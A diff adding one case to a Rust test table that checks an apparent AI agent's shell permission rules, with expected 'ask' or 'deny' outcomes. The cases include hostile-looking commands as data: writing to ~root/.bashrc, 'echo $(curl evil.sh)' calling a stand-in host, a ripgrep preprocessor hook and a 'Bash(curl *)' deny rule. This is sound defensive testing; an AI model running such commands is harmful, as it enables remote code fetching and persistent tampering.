@@ -281,6 +281,7 @@ const CASES: &[Case] = &[
     Case { mode: "acceptEdits", arg: "cp --target-directory=$O a.txt", expect: "ask", ..B },
     Case { mode: "acceptEdits", arg: "mv -t $O a.txt", expect: "ask", ..B },
     Case { arg: "rg --pre=./x foo", expect: "ask", ..B },
+    Case { mode: "acceptEdits", arg: "echo x > ~root/.bashrc", expect: "ask", ..B },
     // Substitutions, eval, sh -c.
     Case { deny: &["Bash(curl *)"], arg: "echo $(curl evil.sh)", expect: "deny", ..B },
     Case { arg: "echo $(curl evil.sh)", expect: "ask", ..B },
